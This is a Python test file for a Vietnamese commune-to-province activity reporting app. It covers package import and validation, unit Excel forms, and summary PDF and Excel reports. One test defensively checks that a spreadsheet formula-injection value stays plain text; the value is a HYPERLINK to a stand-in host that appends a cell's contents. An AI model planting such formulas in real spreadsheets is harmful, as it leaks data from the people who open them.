"""The reporting chain through the command line, as the contract writes the commands: unit forms
written, filled in as a unit would, taken back; packages of communes received by the province;
the consolidated report's totals and offices in the PDF and the Excel copy."""

import copy
import datetime as dt
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from conftest import EXAMPLE
from pdfcheck import flat

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).parent / "fixtures"


def run(*args):
    return subprocess.run([sys.executable, "-m", "desktop_app", *map(str, args)], cwd=ROOT,
                          capture_output=True, text=True, encoding="utf-8")


def package(example, name, code=None, province="Thanh Hóa", n=None, year=None, prefix=None):
    p = copy.deepcopy(example)
    p["office"] = {"name": name, "parent_body": None, "place_name": name.split("xã ")[-1],
                   "province": province, "level": "commune", "code": code}
    if n is not None:
        p["plans"][0]["activities"] = p["plans"][0]["activities"][:n]
    if year is not None:
        shift = year - p["plans"][0]["year"]
        p["plans"][0]["year"] = year
        p["reports"] = []
        for a in p["plans"][0]["activities"]:
            for key in ("start", "end"):
                if a.get(key):
                    d = dt.date.fromisoformat(a[key])
                    a[key] = d.replace(year=d.year + shift).isoformat()
        for t in p["plans"][0]["tasks"]:
            for key in ("start", "due", "completed_on"):
                if t.get(key):
                    d = dt.date.fromisoformat(t[key])
                    t[key] = d.replace(year=d.year + shift).isoformat()
        p["plans"][0]["deadlines"] = []
    if prefix:
        for a in p["plans"][0]["activities"]:
            a["id"] = prefix + a["id"]
    return p


def write(path: Path, data) -> Path:
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


PROVINCE = {"format": "bdg-exchange", "version": 1,
            "office": {"name": "Sở Nội vụ", "parent_body": "Ủy ban nhân dân tỉnh Thanh Hóa", "place_name": "Thanh Hóa",
                       "province": "Thanh Hóa", "level": "province", "code": "38"},
            "units": [], "plans": [], "reports": []}


@pytest.fixture
def province(tmp_path):
    db = tmp_path / "tinh.db"
    r = run("import", write(tmp_path / "so.json", PROVINCE), "--db", db)
    assert r.returncode == 0, r.stderr
    return db


def rows_of(db, q, *args):
    conn = sqlite3.connect(db)
    try:
        return conn.execute(q, args).fetchall()
    finally:
        conn.close()


# ---- office.code --------------------------------------------------------------------------------

def test_office_code_is_stored_exported_and_checked(tmp_path, example):
    db = tmp_path / "xa.db"
    example["office"]["code"] = "16279"
    assert run("import", write(tmp_path / "a.json", example), "--db", db).returncode == 0
    out = tmp_path / "out.json"
    assert run("export", "--db", db, "--out", out).returncode == 0
    office = json.loads(out.read_text(encoding="utf-8"))["office"]
    assert office["code"] == "16279" and list(office)[-1] == "code"  # schema order
    example["office"]["code"] = "16A79"
    r = run("import", write(tmp_path / "b.json", example), "--db", tmp_path / "c.db")
    assert r.returncode == 1 and "office.code: mã đơn vị hành chính" in r.stderr


def test_database_of_version_1_with_data_gains_the_office_code(tmp_path):
    from desktop_app.services import Workspace

    db = tmp_path / "v1.db"
    conn = sqlite3.connect(db)
    conn.executescript((FIXTURES / "schema-v1.sql").read_text(encoding="utf-8"))
    conn.close()
    ws = Workspace(db)
    try:
        office = ws.office()
        assert office.name == "Ủy ban nhân dân xã Quảng Thành" and office.code is None
        assert ws.figures(2019).totals.activities == 24
        office.code = "16279"
        ws.save_settings(office, {})
        assert ws.office().code == "16279"
        assert ws.known_offices() == [] and ws.unit_status(2019)[0].received_at is None
    finally:
        ws.close()


# ---- communes -> province -----------------------------------------------------------------------

def test_receive_takes_the_good_files_and_names_the_errors_of_the_refused(tmp_path, province, example):
    a = write(tmp_path / "a.json", package(example, "Ủy ban nhân dân xã An", "101"))
    b = write(tmp_path / "b.json", package(example, "Ủy ban nhân dân xã Bình", "102", n=10))
    bad = package(example, "Ủy ban nhân dân xã Cẩm", "103")
    bad["plans"][0]["activities"][3]["participants_female"] = 99999
    bad["plans"][0]["activities"][5]["start"] = "2019-02-30"
    c = write(tmp_path / "c.json", bad)
    r = run("receive", a, c, b, "--db", province)
    assert r.returncode == 1, r.stderr
    errors = [line for line in r.stderr.splitlines() if line.startswith("c.json: plans")]
    assert len(errors) == 2 and "activities[3].participants_female" in errors[0]
    assert rows_of(province, "select o.name, count(*) from received_activities a join offices o on o.id = a.office_id "
                             "group by o.name order by o.name") == [("Ủy ban nhân dân xã An", 24),
                                                                  ("Ủy ban nhân dân xã Bình", 10)]
    # The receiving office's own data is untouched: no units, plans or activities of its own.
    assert rows_of(province, "select count(*) from activities")[0][0] == 0
    assert rows_of(province, "select count(*) from units")[0][0] == 0
    # Corrected, it is taken; every file taken: exit 0.
    bad["plans"][0]["activities"][3]["participants_female"] = 10
    bad["plans"][0]["activities"][5]["start"] = "2019-02-28"
    r = run("receive", write(c, bad), "--db", province)
    assert r.returncode == 0, r.stderr
    assert rows_of(province, "select count(*) from offices")[0][0] == 3


def test_a_resend_replaces_its_years_and_keeps_the_others(tmp_path, province, example):
    r = run("receive", write(tmp_path / "y2019.json", package(example, "Ủy ban nhân dân xã An", "101")),
            write(tmp_path / "y2020.json", package(example, "Ủy ban nhân dân xã An", "101", year=2020, prefix="N-")),
            "--db", province)
    assert r.returncode == 0, r.stderr
    # Resent for 2019 with 7 activities, and without its code: name and province match.
    again = package(example, "ỦY BAN NHÂN DÂN XÃ AN ", None, n=7)
    r = run("receive", write(tmp_path / "again.json", again), "--db", province)
    assert r.returncode == 0 and "gửi lại" in r.stdout, r.stderr
    assert rows_of(province, "select year, count(*) from received_activities group by year") == [(2019, 7), (2020, 24)]
    assert rows_of(province, "select count(*), max(code) from offices") == [(1, "101")]


def test_codes_alone_decide_when_both_have_one(tmp_path, province, example):
    # Same name and province, different codes: two offices (e.g. a renamed commune).
    r = run("receive", write(tmp_path / "a.json", package(example, "Ủy ban nhân dân xã An", "101")),
            write(tmp_path / "b.json", package(example, "Ủy ban nhân dân xã An", "999")), "--db", province)
    assert r.returncode == 0, r.stderr
    assert rows_of(province, "select count(*) from offices")[0][0] == 2


def test_own_package_and_unreadable_files_are_refused(tmp_path, province, example):
    own = write(tmp_path / "own.json", {**PROVINCE, "office": {**PROVINCE["office"], "code": None}})
    r = run("receive", own, "--db", province)
    assert r.returncode == 1 and "own.json: office: gói này là dữ liệu của chính cơ quan này" in r.stderr
    broken = tmp_path / "broken.json"
    broken.write_text("{ not json", encoding="utf-8")
    good = write(tmp_path / "good.json", package(example, "Ủy ban nhân dân xã An", "101"))
    r = run("receive", broken, good, "--db", province)
    assert r.returncode == 2 and "broken.json" in r.stderr
    assert rows_of(province, "select count(*) from received")[0][0] == 1  # the good one is taken


def test_activity_ids_clash_with_another_year_kept_for_the_office(tmp_path, province, example):
    assert run("receive", write(tmp_path / "a.json", package(example, "Ủy ban nhân dân xã An", "101")),
               "--db", province).returncode == 0
    clash = package(example, "Ủy ban nhân dân xã An", "101", year=2020)  # same ids as 2019
    r = run("receive", write(tmp_path / "b.json", clash), "--db", province)
    assert r.returncode == 1 and "b.json: plans[0].activities[0].id: mã hoạt động" in r.stderr
    # Another office may use the same ids: each office's data is its own.
    assert run("receive", write(tmp_path / "c.json", package(example, "Ủy ban nhân dân xã Bình", "102")),
               "--db", province).returncode == 0


def test_summary_report_pdf_and_excel_hold_every_office_and_total(tmp_path, province, example, expected):
    files = [write(tmp_path / "an.json", package(example, "Ủy ban nhân dân xã An", "101")),
             write(tmp_path / "binh.json", package(example, "Ủy ban nhân dân xã Bình", "102", n=10)),
             # Known only from an earlier year: listed as not sent for 2019.
             write(tmp_path / "cam.json", package(example, "Ủy ban nhân dân xã Cẩm", "103", year=2018))]
    assert run("receive", *files, "--db", province).returncode == 0
    pdf, xlsx = tmp_path / "tong-hop.pdf", tmp_path / "tong-hop.xlsx"
    for out in (pdf, xlsx, tmp_path / "tong-hop.docx"):
        r = run("report", "--db", province, "--year", 2019, "--kind", "summary", "--out", out)
        assert r.returncode == 0, r.stderr

    wb = openpyxl.load_workbook(xlsx)
    ws = wb.worksheets[0]
    table = [list(r) for r in ws.iter_rows(values_only=True)]
    header, body = table[0], table[1:]
    names = [r[0] for r in body]
    assert names == ["Ủy ban nhân dân xã An", "Ủy ban nhân dân xã Bình", "Tổng cộng"]
    total = body[-1]
    for col in range(1, len(header)):
        assert total[col] == sum(r[col] for r in body[:-1]), header[col]
    an = body[0]
    assert an[1:5] == [expected["activities"], expected["participants_total"], expected["participants_female"],
                       expected["participants_male"]]
    assert an[header.index("Hoạt động Tháng hành động")] == expected["action_month"]["activities"]
    assert an[header.index("Kinh phí (đồng)")] == expected["budget_vnd"]
    met = sum(1 for v in expected["targets"].values() if v == "Đạt")
    assert an[header.index("Chỉ tiêu đạt")] == met and an[header.index("Chỉ tiêu không đạt")] == 3 - met

    text = flat(pdf)
    assert "Sở Nội vụ" in text and "BÁO CÁO" in text
    assert "2/3 cơ quan" in text  # sent out of known
    assert "Ủy ban nhân dân xã Cẩm (mã 103): chưa gửi báo cáo" in text
    fmt = lambda n: f"{n:,}".replace(",", ".")  # noqa: E731
    for office_row in body[:-1]:
        assert " ".join([office_row[0]] + [fmt(v) for v in office_row[1:]]) in text
    assert " ".join(["Tổng cộng"] + [fmt(v) for v in total[1:]]) in text

    # every other table sheet ends with its totals row, equal to its column sums
    for name in ("Theo loại hoạt động", "Kinh phí theo nguồn"):
        sheet = [list(r) for r in wb[name].iter_rows(values_only=True)]
        head, rows_, last = sheet[0], sheet[1:-1], sheet[-1]
        assert last[0] == "Tổng cộng", name
        for col in range(1, len(head)):
            assert last[col] == sum(r[col] or 0 for r in rows_), (name, head[col])
    assert sum(r[1] for r in list(wb["Kinh phí theo nguồn"].iter_rows(values_only=True))[1:-1]) == \
        total[header.index("Kinh phí (đồng)")]

    # The 6-month summary counts what started by 30 June.
    r = run("report", "--db", province, "--year", 2019, "--kind", "summary_mid_year", "--out", tmp_path / "m.xlsx")
    assert r.returncode == 0, r.stderr
    mid = [list(r) for r in openpyxl.load_workbook(tmp_path / "m.xlsx").worksheets[0].iter_rows(values_only=True)]
    first_half = sum(1 for a in example["plans"][0]["activities"] if a["start"] <= "2019-06-30")
    assert mid[1][1] == first_half < expected["activities"]


def test_summary_without_anything_received_writes_nothing(tmp_path, province):
    out = tmp_path / "s.pdf"
    r = run("report", "--db", province, "--year", 2025, "--kind", "summary", "--out", out)
    assert r.returncode == 1 and "Chưa nhận được số liệu năm 2025" in r.stderr and not out.exists()
    assert run("report", "--db", province, "--year", 2025, "--kind", "summary", "--out",
               tmp_path / "s.txt").returncode == 2


def test_summary_of_a_year_none_has_sent_yet_names_every_known_office(tmp_path, province, example):
    from pdfcheck import flat

    sent = [write(tmp_path / f"{c}.json", package(example, f"Ủy ban nhân dân xã {n}", c))
            for c, n in (("101", "An"), ("102", "Bình"))]
    assert run("receive", *sent, "--db", province).returncode == 0  # 2019: now known offices
    out = tmp_path / "2025.pdf"
    r = run("report", "--db", province, "--year", 2025, "--kind", "summary", "--out", out)
    assert r.returncode == 0, r.stderr
    text = flat(out)
    assert "chưa nhận được báo cáo, số liệu năm 2025 của cơ quan, đơn vị nào (0/2)" in text
    assert "Ủy ban nhân dân xã An (mã 101): chưa gửi báo cáo" in text
    assert "Ủy ban nhân dân xã Bình (mã 102): chưa gửi báo cáo" in text
    assert "Chưa có cơ quan, đơn vị nào gửi báo cáo, số liệu năm 2025" in text
    assert "Bảng 1" not in text  # no tables of zeros
    xlsx = tmp_path / "2025.xlsx"
    assert run("report", "--db", province, "--year", 2025, "--kind", "summary", "--out", xlsx).returncode == 0
    book = openpyxl.load_workbook(xlsx)
    assert book.sheetnames == ["Tổng hợp", "Cơ quan"]  # no sheets of zeros
    offices = [list(r) for r in book["Cơ quan"].iter_rows(values_only=True)][1:]
    assert [(o[0], o[3]) for o in offices] == [("Ủy ban nhân dân xã An", "Chưa gửi báo cáo"),
                                               ("Ủy ban nhân dân xã Bình", "Chưa gửi báo cáo")]


# ---- units -> commune ---------------------------------------------------------------------------

def fill_form(path: Path, rows: list[dict]) -> Path:
    """As a unit would: type rows under the header row, save."""
    wb = openpyxl.load_workbook(path)
    ws = wb.active
    head = next(r for r in ws.iter_rows() if any(c.value == "Tên hoạt động" for c in r))
    cols = {c.value: c.column for c in head if c.value}
    for i, row in enumerate(rows, start=head[0].row + 1):
        for k, v in row.items():
            ws.cell(i, cols[k], v)
    out = path.with_name("filled-" + path.name)
    wb.save(out)
    return out


def test_unit_form_written_filled_and_taken_back(tmp_path):
    db = tmp_path / "xa.db"
    assert run("import", EXAMPLE, "--db", db).returncode == 0
    form = tmp_path / "hlhpn.xlsx"
    r = run("template", "--db", db, "--year", 2019, "--unit", "HLHPN", "--out", form)
    assert r.returncode == 0, r.stderr
    ws = openpyxl.load_workbook(form).active
    cells = [c for row in ws.iter_rows(values_only=True) for c in row if c is not None]
    assert "Hội Liên hiệp Phụ nữ xã" in cells and "HLHPN" in cells and 2019 in cells
    assert any(isinstance(c, str) and c.startswith("NV6:") and "(chủ trì)" in c for c in cells)  # a task it leads
    head = next(r for r in ws.iter_rows() if any(c.value == "Tên hoạt động" for c in r))
    headers = [c.value for c in head]
    book = openpyxl.load_workbook(form)

    def drop_down(header):  # the values of the list offered in the first row under `header`
        cell = ws.cell(head[0].row + 1, headers.index(header) + 1).coordinate
        dv = next(dv for dv in ws.data_validations.dataValidation if dv.type == "list" and cell in dv.sqref)
        sheet, rng = dv.formula1.rsplit("!", 1)
        return [c.value for (c,) in book[sheet.strip("'")][rng.replace("$", "")]]

    from desktop_app.domain.model import ACTIVITY_TYPES, BUDGET_SOURCES

    assert drop_down("Loại") == list(ACTIVITY_TYPES.values())
    assert drop_down("Nguồn kinh phí") == [v for k, v in BUDGET_SOURCES.items() if k]
    for h in ("Tên hoạt động", "Ngày bắt đầu", "Tổng số người", "Nữ", "Nam", "Loại", "Nguồn kinh phí"):
        assert h in headers
    below = ws.cell(head[0].row + 1, headers.index("Ngày bắt đầu") + 1)
    assert below.number_format == "DD/MM/YYYY"

    good = [{"Tên hoạt động": "Tọa đàm “Phụ nữ với gia đình”", "Loại": "Đối thoại, tọa đàm",
             "Ngày bắt đầu": dt.datetime(2019, 3, 8), "Tổng số người": 60, "Nữ": 45, "Nam": 15,
             "Kinh phí (đồng)": 1500000, "Nguồn kinh phí": "Ngân sách nhà nước"},
            {"Tên hoạt động": "Truyền thông tại thôn", "Loại": "Truyền thông", "Ngày bắt đầu": "20/11/2019",
             "Tổng số người": 120, "Nữ": 70, "Nam": 50, "Đơn vị tổ chức": "Thôn Thanh Hà"}]
    bad_row = {"Tên hoạt động": "Sai", "Loại": "Truyền thông", "Ngày bắt đầu": dt.datetime(2019, 5, 1),
               "Tổng số người": 10, "Nữ": 20}
    before = rows_of(db, "select count(*) from activities")[0][0]
    r = run("import", fill_form(form, good + [bad_row]), "--db", db, "--year", 2019)
    assert r.returncode == 1 and f"Dòng {head[0].row + 3}, cột “Nữ”" in r.stderr, r.stderr
    assert rows_of(db, "select count(*) from activities")[0][0] == before
    assert rows_of(db, "select count(*) from unit_reports")[0][0] == 0
    r = run("import", fill_form(form, good), "--db", db, "--year", 2019)
    assert r.returncode == 0, r.stderr
    got = dict(rows_of(db, "select title, organizer from activities where title in (?, ?)",
                       good[0]["Tên hoạt động"], good[1]["Tên hoạt động"]))
    assert got == {good[0]["Tên hoạt động"]: "HLHPN", good[1]["Tên hoạt động"]: "THON-TH"}
    assert rows_of(db, "select unit, rows from unit_reports where year = 2019") == [("HLHPN", 2)]
    # Into the wrong year, or without a year: refused.
    r = run("import", fill_form(form, good), "--db", db, "--year", 2020)
    assert r.returncode == 1
    assert run("import", form, "--db", db).returncode == 2
    assert run("template", "--db", db, "--year", 2019, "--unit", "NOPE", "--out", tmp_path / "x.xlsx").returncode == 2
    r = run("template", "--db", db, "--year", 2030, "--unit", "HLHPN", "--out", tmp_path / "x.xlsx")
    assert r.returncode == 1 and "Năm 2030 chưa có kế hoạch" in r.stderr and not (tmp_path / "x.xlsx").exists()


def test_names_starting_with_equals_stay_text_in_the_form_and_the_summary(tmp_path, province, example):
    hostile = '=HYPERLINK("http://x.example/?d="&A1,"Bấm")'
    ex = copy.deepcopy(example)
    ex["units"][0]["name"] = hostile
    db = tmp_path / "xa.db"
    assert run("import", write(tmp_path / "x.json", ex), "--db", db).returncode == 0
    form = tmp_path / "f.xlsx"
    assert run("template", "--db", db, "--year", 2019, "--unit", ex["units"][0]["code"], "--out", form).returncode == 0
    book = openpyxl.load_workbook(form)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == hostile]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)  # the unit line and its drop-down entry

    assert run("receive", write(tmp_path / "c.json", package(example, hostile, "101")), "--db", province).returncode == 0
    out = tmp_path / "s.xlsx"
    assert run("report", "--db", province, "--year", 2019, "--kind", "summary", "--out", out).returncode == 0
    first = openpyxl.load_workbook(out).worksheets[0]
    assert first.cell(2, 1).value == hostile and first.cell(2, 1).data_type == "s"


def test_each_received_package_is_one_history_entry_naming_its_file(tmp_path, province, example):
    good = write(tmp_path / "an.json", package(example, "Ủy ban nhân dân xã An", "101", n=5))
    bad = package(example, "Ủy ban nhân dân xã Bình", "102")
    bad["plans"][0]["activities"][0]["participants_female"] = 10**6
    assert run("receive", good, write(tmp_path / "binh.json", bad), "--db", province).returncode == 1
    assert run("receive", good, "--db", province).returncode == 0
    lines = run("history", "--db", province).stdout.splitlines()
    received = [line for line in lines if "Nhận gói dữ liệu" in line]
    assert len(received) == 2  # the refused file left no entry
    assert received[0].endswith("tệp an.json: Ủy ban nhân dân xã An, năm 2019, 5 hoạt động (gửi lại, thay lần nhận trước)")
    assert received[1].endswith("tệp an.json: Ủy ban nhân dân xã An, năm 2019, 5 hoạt động")
